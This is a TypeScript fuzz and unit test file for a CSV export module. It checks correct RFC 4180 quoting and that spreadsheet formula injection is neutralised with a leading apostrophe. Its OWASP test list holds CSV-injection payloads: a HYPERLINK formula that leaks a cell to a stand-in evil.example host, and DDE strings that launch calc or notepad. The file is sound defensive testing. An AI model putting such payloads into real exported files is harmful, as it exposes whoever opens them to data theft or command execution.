import { describe, expect, it } from "@effect/vitest"
import { parse } from "csv-parse/sync"
import * as fc from "fast-check"
import { type Cell, csvCell, csvHeader, csvRow } from "../../src/Audit/Csv.ts"

const RUNS = Number(process.env.FUZZ_RUNS ?? 1) * 1_000

/** What a spreadsheet reads as a formula when a cell begins with it (OWASP "CSV Injection"). */
const FORMULA_START = /^[=+\-@\t\r]/

/**
 * An independent RFC 4180 reader, left to find the record delimiter itself: an unquoted CR or LF inside a field would
 * be taken for one.
 */
const read = (text: string): Array<Array<string>> => parse(text, { relax_quotes: false })

/** What a cell reads back as: empty for nothing, and a formula-looking one with exactly one `'` in front. */
const expected = (cell: Cell): string => {
  if (cell === null || cell === undefined) return ""
  const text = String(cell)
  return FORMULA_START.test(text) ? `'${text}` : text
}

/** Text heavy in what CSV and spreadsheets treat specially, mixed with any Unicode. */
const tricky = fc.constantFrom("\"", ",", "\r", "\n", "\r\n", "\t", "=", "+", "-", "@", "'", " ", "a", "1", "é", "😀")
const text = fc.oneof(
  fc.string({ unit: tricky, maxLength: 12 }),
  fc.string({ unit: "grapheme", maxLength: 12 }),
  fc.tuple(fc.constantFrom("=", "+", "-", "@", "\t", "\r"), fc.string({ maxLength: 10 })).map(([head, tail]) => head + tail)
)
const cell: fc.Arbitrary<Cell> = fc.oneof(
  { weight: 6, arbitrary: text },
  { weight: 1, arbitrary: fc.constant(null) },
  { weight: 1, arbitrary: fc.constant(undefined) },
  { weight: 1, arbitrary: fc.double({ noNaN: true }) }
)

const OWASP = [
  "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Error: click for details\")",
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1)",
  "\t=1",
  "\r=1",
  "=1+2\";=1+2",
  "=cmd|' /C notepad'!'A1'",
  "-1,=2\r\n+3"
]

describe("csvCell, csvRow", () => {
  it("round-trips generated rows through an RFC 4180 parser, formula-looking cells with one leading '", () => {
    fc.assert(
      fc.property(fc.array(cell, { minLength: 1, maxLength: 8 }), (cells) => {
        const line = csvRow(cells)
        expect(line.endsWith("\r\n")).toBe(true)
        expect(read(line)).toEqual([cells.map(expected)])
      }),
      { numRuns: RUNS }
    )
  })

  it("round-trips whole files: a header and rows of the same width", () => {
    fc.assert(
      fc.property(
        fc.integer({ min: 1, max: 6 }).chain((width) =>
          fc.tuple(
            fc.array(fc.string({ unit: "grapheme", maxLength: 8 }), { minLength: width, maxLength: width }),
            fc.array(fc.array(cell, { minLength: width, maxLength: width }), { maxLength: 10 })
          )
        ),
        ([columns, rows]) => {
          const file = csvHeader(columns) + rows.map(csvRow).join("")
          expect(read(file)).toEqual([columns.map(expected), ...rows.map((row) => row.map(expected))])
        }
      ),
      { numRuns: RUNS }
    )
  })

  it("never lets a cell begin with a formula character once parsed", () => {
    fc.assert(
      fc.property(fc.array(cell, { minLength: 1, maxLength: 8 }), (cells) => {
        for (const parsed of read(csvRow(cells))[0]!) expect(parsed).not.toMatch(FORMULA_START)
      }),
      { numRuns: RUNS }
    )
  })

  it("neutralizes OWASP's payloads", () => {
    const [parsed] = read(csvRow(OWASP))
    expect(parsed).toEqual(OWASP.map((payload) => `'${payload}`))
    for (const value of parsed!) expect(value).not.toMatch(FORMULA_START)
  })

  it("writes plain cells as they are, quotes only when it must, and nothing for absent values", () => {
    expect(csvRow(["a", "b c", 4500, "2026-11-24T09:30:08.000Z", "it's"])).toBe("a,b c,4500,2026-11-24T09:30:08.000Z,it's\r\n")
    expect(csvRow([null, undefined, ""])).toBe(",,\r\n")
    expect(csvCell("say \"hi\", twice")).toBe("\"say \"\"hi\"\", twice\"")
    expect(csvCell("two\r\nlines")).toBe("\"two\r\nlines\"")
    expect(csvCell("a\rb")).toBe("\"a\rb\"")
    expect(csvCell("a\nb")).toBe("\"a\nb\"")
    expect(csvCell("=1,2")).toBe("\"'=1,2\"")
    expect(csvCell(-2)).toBe("'-2")
    expect(csvCell("'=already")).toBe("'=already")
    expect(csvHeader(["payoutId", "batchId"])).toBe("payoutId,batchId\r\n")
  })
})
